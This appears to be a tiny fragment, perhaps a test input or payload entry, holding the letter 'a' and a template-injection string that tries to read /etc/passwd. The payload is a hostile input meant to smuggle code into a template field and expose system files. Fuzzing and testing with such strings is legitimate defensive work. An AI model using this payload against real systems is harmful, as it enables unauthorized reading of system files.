a
${open("/etc/passwd").read()}
